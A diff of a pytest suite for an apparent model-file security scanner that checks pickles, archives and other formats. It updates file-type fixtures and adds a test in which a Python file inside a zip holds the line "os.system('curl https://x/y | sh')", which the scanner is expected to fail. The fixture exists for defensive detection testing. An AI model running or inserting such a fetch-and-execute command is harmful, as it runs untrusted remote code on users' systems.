@@ -70,7 +70,7 @@ FILES = {
     "cut zip": (VALID["zip"][:-1], INCONCLUSIVE),
     "cut pickle in a zip": (zip_of({"a.pkl": PLAIN[:-1]}), INCONCLUSIVE),
     "text": (b"# Model card\n", SKIPPED),
-    "HDF5": (b"\x89HDF\r\n\x1a\n", SKIPPED),
+    "Parquet": (b"PAR1\x15\0\x15\0", SKIPPED),
     "unknown": (b"\1\2\3\4", SKIPPED),
 }
 
@@ -101,8 +101,8 @@ def test_a_finding_beats_an_inconclusive_reading_and_keeps_its_reason(
 
 @pytest.mark.parametrize(
     "limits",
-    [Limits(entries=2), Limits(operations=5), Limits(depth=0), Limits(member_bytes=10)],
-    ids=["entries", "operations", "depth", "bytes"],
+    [Limits(entries=2), Limits(values=5), Limits(depth=0), Limits(member_bytes=10)],
+    ids=["entries", "values", "depth", "bytes"],
 )
 def test_a_spent_budget_is_inconclusive(tmp_path: Path, limits: Limits) -> None:
     data = zip_of({"a": pickle.dumps(list(range(100))), "b": b""}, method=zipfile.ZIP_DEFLATED)
@@ -227,9 +227,10 @@ def test_only_the_given_rules_run(tmp_path: Path) -> None:
     ("name", "data", "unread"),
     [
         ("README.md", b"text", 0),
-        ("modeling.py", b"import os\n", 1),
-        ("run.sh", b"echo\n", 1),
-        ("weights.h5", b"\x89HDF\r\n\x1a\n", 1),
+        ("modeling.py", b"import os\n", 0),
+        ("run.js", b"alert(1);\n", 0),
+        ("run.sh", b"echo\n", 0),
+        ("weights.parquet", b"PAR1\x15\0\x15\0", 1),
         ("weights.bin", b"\1\2\3\4", 1),
         ("m.zip", zip_of({"a": b"\1\2\3", "b": b"\4\5\6"}), 1),
         ("m.pkl", PLAIN, 0),
@@ -246,20 +247,20 @@ def test_what_might_hold_something_and_was_not_read_is_counted(
 def test_what_no_rule_reads_is_named_with_its_reason(tmp_path: Path) -> None:
     result = scan_tree(
         tmp_path,
-        {"a.md": b"text", "b.h5": b"\x89HDF\r\n\x1a\n", "c.zip": zip_of({"x": b"GGUF\3"})},
+        {"a.md": b"text", "b.h5": b"PAR1\x15\0\x15\0", "c.zip": zip_of({"x": b"tjgg\3"})},
     )
     assert [(n.what, n.why) for n in result.not_checked] == [
         ("a.md", "no rule reads text"),
-        ("b.h5", "no reader for HDF5"),
-        ("c.zip!x", "no reader for GGUF"),
+        ("b.h5", "no reader for Parquet"),
+        ("c.zip!x", "no reader for GGML (before GGUF)"),
     ]
 
 
-def test_code_within_an_archive_is_not_passed_over_in_silence(tmp_path: Path) -> None:
-    """TorchScript keeps Python source in ``code/``."""
-    result = scan_tree(tmp_path, {"m.pt": zip_of({"m/code/net.py": b"import os\n"})})
-    assert [n.what for n in result.not_checked] == ["m.pt!m/code/net.py"]
-    assert result.unread == 1
+@pytest.mark.parametrize("name", ["net.py", "net.js", "run.sh"])
+def test_code_within_an_archive_is_read(tmp_path: Path, name: str) -> None:
+    text = b"import os\nos.system('curl https://x/y | sh')\n"
+    result = scan_tree(tmp_path, {"m.zip": zip_of({f"m/code/{name}": text})})
+    assert (result.files[0].verdict, result.not_checked, result.unread) == (FAIL, (), 0)
 
 
 def test_arrays_of_many_kinds_pass(tmp_path: Path) -> None:
